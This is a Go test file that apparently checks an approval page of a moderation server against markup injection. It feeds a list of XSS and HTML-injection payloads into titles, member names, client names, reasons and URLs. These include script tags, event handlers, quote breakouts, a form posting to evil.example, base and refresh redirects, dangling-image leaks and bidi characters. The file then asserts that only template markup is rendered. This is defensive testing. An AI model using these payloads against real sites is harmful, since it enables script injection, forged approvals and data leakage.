package server

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"golang.org/x/net/html"
)

func itoa(n uint64) string { return fmt.Sprint(n) }

// pageMarkupAttacks bring markup onto the page, in every text that is not ours.
func pageMarkupAttacks(watch *clock) []wireAttack {
	markup := []struct{ name, text string }{
		{"a script", `<script>document.forms[1].submit()</script>`},
		{"the end of the script", `</script><script>alert(1)</script>`},
		{"a handler", `<img src=x onerror="document.forms[1].submit()">`},
		{"a value that ends early", `" autofocus onfocus="document.forms[1].submit()" x="`},
		{"a value in other quotes", `' onclick='document.forms[1].submit()' x='`},
		{"a form", `</bdi></q></dd></dl></section><form method=post action=https://evil.example><button>Approve</button>`},
		{"a button for another", `<button form=x formaction=/approvals/AAAA-AAAA/approve>Reject</button>`},
		{"a base", `<base href=https://evil.example/>`},
		{"a redirection", `<meta http-equiv=refresh content="0;url=https://evil.example">`},
		{"a style", `</style><style>button{display:none}</style>`},
		{"a picture that is loaded", `<svg><image href=https://evil.example/x.png></svg>`},
		{"an open picture", `<img src="https://evil.example/?`},
		{"an open comment", `<!--`},
		{"an open text", `<textarea>`},
		{"a template", `{{.Form}}{{template "list" .}}`},
		{"a frame", `<iframe srcdoc="<script>parent.document.forms[1].submit()</script>">`},
		{"references", `&lt;script&gt;&#60;script&#62;&quot;`},
		{"other line ends", "x\u2028<script>\u2029</script>"},
		{"letters turned round", "\u202e<script>\u2066</script>"},
	}
	var attacks []wireAttack
	for _, m := range markup {
		name, text := m.name, m.text
		attacks = append(attacks,
			atPage(watch, "markup in a title: "+name, func(h *hall) {
				code := h.asks("announce_post", map[string]any{"space_id": h.sandbox.Notable().AutoJoinSpace, "title": text, "description": text})
				h.plain(h.olga, pagePath+"/"+code, 3)
				h.plain(h.olga, pagePath, 1)
			}),
			atPage(watch, "markup in a member's name: "+name, func(h *hall) {
				other := h.sandbox.Notable().Spammers[2]
				h.unnamed(other, text, text, func() {
					code := h.asks("ban_member", map[string]any{"member_id": other, "reason": text})
					h.plain(h.olga, pagePath+"/"+code, 3)
					h.plain(h.olga, pagePath, 1)
				})
			}),
		)
	}
	return append(attacks,
		atPage(watch, "markup in the name of a client", func(h *hall) {
			for _, m := range markup {
				params := modern(callParams("ban_member", map[string]any{"member_id": h.sandbox.Notable().Spammers[2]}), canNone)
				params["_meta"].(map[string]any)["io.modelcontextprotocol/clientInfo"] = map[string]any{"name": m.text, "version": m.text}
				got := h.maria.do("POST", "/mcp", message(1, "tools/call", params), modernHeaders("tools/call", "ban_member")).last()
				h.waits(got)
				code := codePattern.FindString(got.text())
				h.plain(h.olga, pagePath+"/"+code, 3)
				h.plain(h.olga, pagePath, 1)
				h.olga.post(pagePath+"/"+code+"/reject", h.form) // so that there is room for the next
			}
		}),
		atPage(watch, "markup in the reason of another approver", func(h *hall) {
			for _, m := range markup {
				code := h.asks("ban_member", map[string]any{"member_id": h.sandbox.Notable().Spammers[2], "reason": m.text})
				h.olga.post(pagePath+"/"+code+"/reject", url.Values{"form": h.form["form"], "reason": {m.text}})
				h.plain(h.olga, pagePath+"/"+code, 2) // it can be taken back
				h.plain(h.olga, pagePath, 1)
			}
		}),
		atPage(watch, "markup in the address", func(h *hall) {
			v := h.stranger()
			for _, m := range markup {
				h.plain(v, pagePath+"/"+url.PathEscape(m.text), 1)
				h.plain(h.olga, pagePath+"/"+url.PathEscape(m.text), 1)
				h.plain(h.olga, pagePath+"?"+url.Values{"x": {m.text}, m.text: {"x"}}.Encode(), 1)
			}
		}),
		atPage(watch, "markup in what was typed", func(h *hall) {
			for _, m := range markup {
				got := h.olga.post(h.to("approve"), h.altered("typed", m.text))
				h.shut(got, http.StatusUnprocessableEntity)
				h.ours(got.body, 3)
			}
		}),
	)
}

// plain wants a page to have the markup of its template, and no other.
func (h *hall) plain(v *visitor, path string, forms int) {
	h.t.Helper()
	got := v.get(path)
	if got.status >= http.StatusInternalServerError || !strings.HasPrefix(got.header.Get("Content-Type"), "text/html") {
		h.t.Errorf("%s: %d %v", path, got.status, got.header)
	}
	if policy := got.header.Get("Content-Security-Policy"); policy != pagePolicy {
		h.t.Errorf("%s: %s", path, policy)
	}
	h.ours(got.body, forms)
}

// elements are those of the template, and attributes those that can do
// something.
var (
	elements = wordsOf("html head meta title style noscript body header p a span form input button bdi main h1 h2 section ul ol li strong q code kbd " +
		"label div dl dt dd article time script br")
	active = wordsOf("src srcdoc srcset formaction formtarget ping background data poster xlink:href target is style")
)

func wordsOf(list string) map[string]bool {
	set := map[string]bool{}
	for _, word := range strings.Fields(list) {
		set[word] = true
	}
	return set
}

// ours wants no element, no attribute and no address that the template does not
// have, and only so many forms.
func (h *hall) ours(page string, forms int) {
	h.t.Helper()
	counted := map[string]int{}
	tokens := html.NewTokenizer(strings.NewReader(page))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			if counted["form"] != forms || counted["script"] > 1 || counted["style"] != 1 || counted["body"] != 1 {
				h.t.Errorf("%v on a page with %d forms:\n%s", counted, forms, page)
			}
			return
		case html.TextToken:
			if strings.ContainsAny(string(tokens.Raw()), "\u202e\u2066\u2028\u2029\x00") {
				h.t.Errorf("characters that nobody sees: %q", tokens.Raw())
			}
		case html.CommentToken:
			h.t.Errorf("a comment: %s", tokens.Raw())
		case html.StartTagToken, html.SelfClosingTagToken:
			token := tokens.Token()
			counted[token.Data]++
			if !elements[token.Data] {
				h.t.Errorf("an element of somebody else: %s", token)
			}
			for _, attribute := range token.Attr {
				address := attribute.Key == "href" || attribute.Key == "action"
				switch {
				case active[attribute.Key] || strings.HasPrefix(attribute.Key, "on"):
					h.t.Errorf("an attribute of somebody else: %s", token)
				case address && attribute.Val != pagePath && !strings.HasPrefix(attribute.Val, pagePath+"/"):
					h.t.Errorf("an address elsewhere: %s", token)
				case attribute.Key == "http-equiv" && token.String() != `<meta http-equiv="refresh" content="20">`:
					h.t.Errorf("a redirection: %s", token)
				}
			}
		}
	}
}
